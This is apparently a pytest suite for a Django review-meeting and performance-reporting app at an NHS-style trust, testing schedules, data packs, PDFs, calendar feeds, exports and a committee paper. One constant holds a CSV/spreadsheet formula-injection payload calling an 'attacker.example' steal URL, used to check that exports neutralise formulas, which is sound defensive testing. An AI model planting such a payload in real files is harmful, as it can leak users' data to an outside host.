"""PRM schedules, data packs, actions, the calendar feed, the exports and the FPEC paper against the demo
trust (real database, real PDF rendering). The demo is loaded once for the module (``module_demo``); each
test runs in its own savepoint, so what one test writes the next does not see."""

import csv
import io
from datetime import date, datetime, timedelta
from urllib.parse import urlparse

import pandas as pd
import pytest
import time_machine
from django.core import mail
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from divisions.models import OrgUnit
from escalation.models import EscalationCase
from kpis.models import Kpi, Measurement, Upload
from kpis.services.measurements import publish_frame
from pmf.models import AuditEvent, User
from pmf.periods import FinancialYear
from reviews.models import Action, DataPack, Meeting
from reviews.schedule import plan_meetings
from reviews.services.actions import create_action, update_action
from reviews.services.meetings import plan_schedule, record_meeting, sync_schedules
from reviews.services.packs import build_pack, circulate_pack, edit_pack, issue_pack, run_pack_deadlines

pytestmark = pytest.mark.django_db


@pytest.fixture
def surgery(module_demo, db):
    return OrgUnit.objects.get(code="RWD-SUR")


def _next_meeting(division, after):
    return (
        Meeting.objects.filter(division=division, scheduled_for__gt=after).order_by("scheduled_for").first()
    )


def test_demo_divisions_get_a_schedule_from_their_review_frequency(surgery):
    meetings = Meeting.objects.filter(division=surgery)
    assert meetings.exists()
    assert {m.frequency for m in meetings} == {surgery.ratings.order_by("-month").first().review_frequency}
    assert sync_schedules() == []  # running it again changes nothing


def test_a_frequency_change_replans_only_future_planned_meetings(surgery):
    year = FinancialYear.parse("2025/26")
    Meeting.objects.filter(division=surgery).delete()
    plan_schedule(division=surgery, financial_year=year, frequency="monthly", today=date(2025, 3, 1))
    first, second = Meeting.objects.filter(division=surgery).order_by("scheduled_for")[:2]
    perf = User.objects.get(username="perf")
    record_meeting(actor=perf, meeting=first, attended=set(), minutes="Held", decisions="")
    change = plan_schedule(division=surgery, financial_year=year, frequency="weekly", today=date(2025, 6, 1))
    days = list(Meeting.objects.filter(division=surgery).values_list("scheduled_for", "status"))
    assert (first.scheduled_for, "held") in days  # history stays
    assert all(d.weekday() == 1 or d.month in (4, 5) or d == date(2025, 6, 10) for d, _ in days)
    tuesdays = [d for d in plan_meetings(year, "weekly", weekday=1) if d > date(2025, 6, 1)]
    assert sorted(d for d, s in days if d > date(2025, 6, 1)) == tuesdays
    assert change.dropped == 0 and change.added == len(tuesdays) - 10  # 10 monthly dates were Tuesdays too
    assert AuditEvent.objects.filter(verb="re-planned", object_id__startswith="RWD-SUR").exists()


def _record_on_its_day(meeting, perf):
    """Record the meeting as held, with the performance team present, on its own day."""
    return record_meeting(
        actor=perf,
        meeting=meeting,
        attended={perf.pk},
        minutes="m",
        decisions="d",
        today=meeting.scheduled_for,
    )


def test_recording_a_meeting_flags_essential_absence(surgery):
    meeting = Meeting.objects.filter(division=surgery).first()
    perf = User.objects.get(username="perf")
    absent = _record_on_its_day(meeting, perf)
    assert any(i.user.username == "md.surgery" for i in absent)
    meeting.refresh_from_db()
    assert meeting.status == "held"


def test_the_meeting_page_names_each_invitees_role_in_words(surgery, client):
    meeting = Meeting.objects.filter(division=surgery).first()
    perf = User.objects.get(username="perf")
    _record_on_its_day(meeting, perf)
    client.force_login(perf)
    page = client.get(reverse("meeting", args=[meeting.pk])).content.decode()
    assert "<td>Managing director</td>" in page and "<td>Performance team</td>" in page
    assert "(managing director)" in page.split("Essential members absent", 1)[1].split("</p>", 1)[0]
    assert "managingdirector" not in page and "managing_director" not in page


@pytest.fixture
def built_pack(surgery):
    perf = User.objects.get(username="perf")
    latest = surgery.ratings.order_by("-month").first().month
    meeting = Meeting.objects.filter(division=surgery, status="planned").order_by("scheduled_for").first()
    create_action(
        actor=perf,
        division=surgery,
        title="Recover theatre utilisation",
        owner="Divisional director of operations",
        due_date=latest - timedelta(days=10),
        meeting=None,
    )
    return build_pack(meeting=meeting, actor=perf, today=latest + timedelta(days=30))


def test_a_pack_has_the_scorecard_lines_of_enquiry_and_overdue_actions(built_pack):
    snapshot = built_pack.snapshot
    assert snapshot["division"]["code"] == "RWD-SUR"
    assert snapshot["content"]["kpis"], "the scorecard has rows"
    asked, more = built_pack.lines_of_enquiry, snapshot["more_lines"]
    assert len(asked) == 10 and more, "Surgery's many findings: ten asked, the others listed apart"
    assert "overdue_action" in {line["source"] for line in more}  # after every key KPI's and case's question
    assert {line["source"] for line in asked} <= {"escalation", "concern", "assurance", "key_missed"}
    assert any(a["overdue"] for a in snapshot["actions"])
    open_cases = EscalationCase.objects.filter(division__code="RWD-SUR", status="open")
    assert open_cases.exists()
    assert [e["id"] for e in snapshot["escalations"]] == list(
        open_cases.order_by("opened_at", "pk").values_list("pk", flat=True)
    )


def test_an_issued_pack_pdf_opens_with_charts_and_lines_and_stays_frozen(
    built_pack, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    perf = User.objects.get(username="perf")
    User.objects.filter(username="md.surgery").update(email="md.surgery@example.nhs.uk")
    edit_pack(
        pack=built_pack,
        actor=perf,
        lines="Why has theatre utilisation fallen?\n\nWhat is the recovery date?",
        risks="Winter pressures",
    )
    with django_capture_on_commit_callbacks(execute=True):  # a worker prints it, in-process here
        pack = issue_pack(pack=built_pack, actor=perf)
    pack.refresh_from_db()
    reader = PdfReader(io.BytesIO(pack.pdf.read()))
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "Why has theatre utilisation fallen?" in text
    assert "Key lines of enquiry" in text
    images = {image.data: image.image.size for page in reader.pages for image in page.images}
    charts = [size for size in images.values() if size == (1350, 510)]  # 900 × 340 CSS pixels, 1.5 per pixel
    exceptions = [r for r in pack.snapshot["content"]["kpis"] if r["figure"]]
    assert exceptions and len(charts) == len(exceptions)
    assert any("md.surgery@example.nhs.uk" in m.to for m in mail.outbox)

    # Restate a figure the pack shows: the issued pack does not change.
    row = next(r for r in pack.snapshot["content"]["kpis"] if r["value"] is not None)
    kpi = Kpi.objects.get(code=row["code"])
    period = pack.period
    before = dict(pack.snapshot)
    teams = Measurement.objects.filter(kpi=kpi, month=period, status="published", is_rollup=False)
    frame = pd.DataFrame(
        [
            {
                "kpi_id": m.kpi_id,
                "org_unit_id": m.org_unit_id,
                "month": m.month,
                "numerator": m.numerator,
                "denominator": m.denominator,
                "value": (m.value or 0) * 0.5 + 1,
                "is_synthetic": m.is_synthetic,
            }
            for m in teams
        ]
    )
    upload = Upload.objects.create(uploaded_by=perf, sha256="restated-" + row["code"], status="valid")
    publish_frame(actor=perf, upload=upload, frame=frame)
    pack.refresh_from_db()
    assert pack.snapshot == before
    with pytest.raises(ValidationError):
        build_pack(meeting=pack.meeting, actor=perf)
    with pytest.raises(ValidationError):
        edit_pack(pack=pack, actor=perf, lines="changed", risks="")


def test_the_daily_job_builds_flags_late_and_circulates(surgery, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    latest = surgery.ratings.order_by("-month").first().month
    meeting = Meeting.objects.create(division=surgery, scheduled_for=latest + timedelta(days=60))
    build_day = meeting.scheduled_for - timedelta(days=9)
    run = run_pack_deadlines(today=build_day)
    pack = DataPack.objects.get(meeting=meeting)
    assert pack.pk in run.built and not pack.issued_late
    run = run_pack_deadlines(today=meeting.scheduled_for - timedelta(days=6))
    assert pack.pk in run.flagged_late
    with time_machine.travel(datetime(2030, 1, 1, 9, 0), tick=False):
        issue_pack(pack=pack)
    pack.refresh_from_db()
    assert pack.issued_late
    run = run_pack_deadlines(today=meeting.scheduled_for - timedelta(days=2))
    pack.refresh_from_db()
    assert pack.circulated_at is not None and pack.pk in run.circulated
    assert run_pack_deadlines(today=meeting.scheduled_for - timedelta(days=2)).circulated == []
    with pytest.raises(ValidationError):
        circulate_pack(pack=pack)


def test_action_updates_move_the_status_and_are_audited(surgery):
    lead = User.objects.get(username="cl.surgery")
    perf = User.objects.get(username="perf")
    action = create_action(
        actor=perf, division=surgery, title="Fix RTT", owner="Clinical lead", due_date=date(2030, 1, 1)
    )
    update_action(actor=lead, action=action, note="Extra clinics booked", status="in_progress")
    action.refresh_from_db()
    assert action.status == "in_progress" and action.updates.count() == 1
    assert not action.is_overdue(date(2029, 12, 31)) and action.is_overdue(date(2030, 1, 2))
    assert AuditEvent.objects.filter(object_type=Action._meta.label, verb="action updated").exists()


def _unfolded(body: str) -> str:
    return body.replace("\r\n ", "")


def test_each_user_subscribes_to_a_calendar_of_the_meetings_they_may_see(surgery, client):
    medicine = OrgUnit.objects.get(code="RWD-MED")
    cancelled = Meeting.objects.filter(division=surgery, status="planned").order_by("scheduled_for").last()
    cancelled.status, cancelled.cancelled_reason = "cancelled", "Clash with the board"
    cancelled.save()
    client.force_login(User.objects.get(username="md.surgery"))
    feed_url = client.get(reverse("division-calendar", args=["RWD-SUR"])).context["feed_url"]
    client.logout()

    # The address alone is the key: no session is needed, and a changed token finds nothing.
    response = client.get(urlparse(feed_url).path)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/calendar")
    body = response.content.decode()
    assert body.startswith("BEGIN:VCALENDAR\r\nVERSION:2.0\r\n") and body.endswith("END:VCALENDAR\r\n")
    assert all(len(line.encode()) <= 75 for line in body.split("\r\n"))
    text = _unfolded(body)
    surgery_meetings = Meeting.objects.filter(division=surgery)
    assert text.count("BEGIN:VEVENT") == surgery_meetings.count()
    assert f"DTSTART;VALUE=DATE:{surgery_meetings.earliest('scheduled_for').scheduled_for:%Y%m%d}" in text
    assert f"UID:meeting-{cancelled.pk}@pmf" in text
    event = text.split(f"UID:meeting-{cancelled.pk}@pmf")[1].split("END:VEVENT")[0]
    assert "STATUS:CANCELLED" in event
    assert medicine.name not in text
    assert client.get(urlparse(feed_url).path.replace(".ics", "x.ics")).status_code == 404

    client.force_login(User.objects.get(username="perf"))
    perf_feed = client.get(reverse("calendar")).context["feed_url"]
    client.logout()
    everything = _unfolded(client.get(urlparse(perf_feed).path).content.decode())
    assert everything.count("BEGIN:VEVENT") == Meeting.objects.count()
    assert f": {medicine.name}" in everything


INJECTION = '=HYPERLINK("https://attacker.example/steal","Click for details")'


def test_the_action_log_exports_neutralise_formulas_and_respect_who_may_see(surgery, client):
    perf = User.objects.get(username="perf")
    create_action(
        actor=perf,
        division=surgery,
        title=INJECTION,
        owner="+44 Owner",
        due_date=date(2020, 1, 31),
        escalate_to_fpec=True,
        kpis=Kpi.objects.order_by("code")[:2],
    )
    client.force_login(perf)

    response = client.get(reverse("actions-csv"), {"division": "RWD-SUR", "status": "overdue"})
    assert response["Content-Disposition"] == 'attachment; filename="actions.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Division", "Title", "Owner"]
    row = next(r for r in rows if "HYPERLINK" in r[1])
    assert row[1] == "'" + INJECTION and row[2] == "'+44 Owner"
    assert row[3] == "2020-01-31" and row[5] == "yes" and row[7] == "yes"
    assert all(r[0] == surgery.name for r in rows[1:])

    response = client.get(reverse("actions-xlsx"), {"fpec": "on"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = next(r for r in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(r[1].value))
    assert cells[1].data_type == "s" and cells[1].value == "'" + INJECTION  # text, never a formula
    assert cells[3].is_date and cells[3].value.date() == date(2020, 1, 31)
    assert {str(r[7].value) for r in sheet.iter_rows(min_row=2)} == {"yes"}  # only flagged actions

    client.force_login(User.objects.get(username="md.medicine"))
    rows = list(csv.reader(io.StringIO(client.get(reverse("actions-csv")).content.decode("utf-8-sig"))))
    assert len(rows) > 1 and {r[0] for r in rows[1:]} == {"Medicine"}


def test_only_the_owning_division_may_update_an_action(surgery, client):
    action = Action.objects.filter(division=surgery).first()
    audits = AuditEvent.objects.count()

    client.force_login(User.objects.get(username="md.medicine"))
    form = {"note": "Medicine writing on Surgery's action", "status": "done"}
    assert client.get(reverse("action", args=[action.pk])).status_code == 403
    assert client.post(reverse("action-update", args=[action.pk]), form).status_code == 403
    assert action.updates.count() == 0 and AuditEvent.objects.count() == audits
    action.refresh_from_db()
    assert action.status == "open"

    client.force_login(User.objects.get(username="cd.surgery"))
    form = {"note": "Extra theatre lists from May", "status": "in_progress"}
    response = client.post(reverse("action-update", args=[action.pk]), form)
    assert response.status_code == 302
    action.refresh_from_db()
    assert action.status == "in_progress" and action.updates.get().by.username == "cd.surgery"


def test_the_fpec_summary_paper_as_a_page_and_a_pdf(surgery, client):
    perf = User.objects.get(username="perf")
    latest = surgery.ratings.order_by("-month").first()
    month = latest.month
    prm_round = month.replace(month=month.month % 12 + 1, year=month.year + month.month // 12)
    Meeting.objects.create(division=surgery, scheduled_for=prm_round.replace(day=14), status="held")
    create_action(
        actor=perf,
        division=surgery,
        title="Report the theatre recovery to FPEC",
        owner="Managing director",
        due_date=month,
        escalate_to_fpec=True,
    )
    create_action(
        actor=perf, division=surgery, title="Not for the committee", owner="Clinical lead", due_date=month
    )
    client.force_login(User.objects.get(username="board"))

    page = client.get(reverse("fpec", args=[f"{prm_round:%Y-%m}"]))  # the round of PRMs on the latest data
    assert page.status_code == 200
    html = page.content.decode()
    assert "Summary paper for the Finance, Performance and Estates Committee" in html
    for division in OrgUnit.objects.filter(level="division"):
        assert division.name in html
    assert "Report the theatre recovery to FPEC" in html and "(overdue)" in html
    assert "Not for the committee" not in html
    held = html.split("Meetings held in", 1)[1].split("</ul>", 1)[0]
    assert f"{surgery.name}, 14 {prm_round:%b %Y}</li>" in held
    assert page.context["data_month"] == month
    positions = {p["division"].code: p for p in page.context["positions"]}
    assert positions["RWD-SUR"]["now"] == latest
    opened_on_this_month = EscalationCase.objects.filter(status="open", opened_month=month)
    assert opened_on_this_month.exists()  # the demo opens its cases on the latest month, whenever it loads
    new = {e["id"] for e in page.context["new_escalations"]}
    assert new == set(opened_on_this_month.values_list("pk", flat=True))
    assert client.get(reverse("fpec", args=["not-a-month"])).status_code == 404

    pdf = client.get(reverse("fpec-pdf", args=[f"{prm_round:%Y-%m}"]))
    assert pdf["Content-Type"] == "application/pdf"
    text = " ".join(" ".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf.content)).pages).split())
    assert "Summary paper for the Finance, Performance and Estates Committee" in text
    assert "Report the theatre recovery to FPEC" in text and surgery.name in text
